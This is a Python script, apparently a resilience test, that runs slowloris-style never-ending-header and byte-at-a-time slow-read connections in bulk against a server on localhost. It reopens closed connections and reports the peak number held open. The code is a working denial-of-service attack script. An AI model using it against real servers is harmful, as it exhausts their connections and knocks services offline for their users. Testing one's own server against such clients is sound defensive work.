"""Clients that mean no good: connections that send a request a byte at a time, or read an answer so.

  attack.py PORT headers CONNECTIONS SECONDS        never end their headers
  attack.py PORT PATH    CONNECTIONS SECONDS        ask for PATH and read a byte a second

What the server closes is opened again. Prints how many were open at most, and how many were opened.
"""
import collections
import resource
import socket
import sys
import time

port, kind, connections, seconds = int(sys.argv[1]), sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
request = "GET /metrics HTTP/1.1\r\nHost: x\r\nX-Slow: " if kind == "headers" else f"GET {kind} HTTP/1.1\r\nHost: x\r\n\r\n"
due = collections.deque()
alive = set()
opened = 0
most = 0


def connect():
    global opened
    client = socket.socket()
    client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
    client.setblocking(False)
    client.connect_ex(("127.0.0.1", port))
    alive.add(client)
    due.append((time.monotonic() + 0.05, client, True))
    opened += 1


def step(client, first):
    """One byte more; false where the server had enough."""
    try:
        if first:
            client.send(request.encode())
        elif kind == "headers":
            try:
                if not client.recv(4096):
                    return False
            except BlockingIOError:
                pass
            client.send(b"a")
        else:
            return bool(client.recv(1))
        return True
    except BlockingIOError:
        return True
    except OSError:
        return False


end = time.monotonic() + seconds
while time.monotonic() < end:
    for _ in range(min(200, connections - len(alive))):
        try:
            connect()
        except OSError:
            break
    now = time.monotonic()
    while due and due[0][0] <= now:
        _, client, first = due.popleft()
        if step(client, first):
            due.append((now + 1, client, False))
        else:
            alive.discard(client)
            client.close()
    most = max(most, len(alive))
    time.sleep(0.01)
print(most, "open,", opened, "opened")
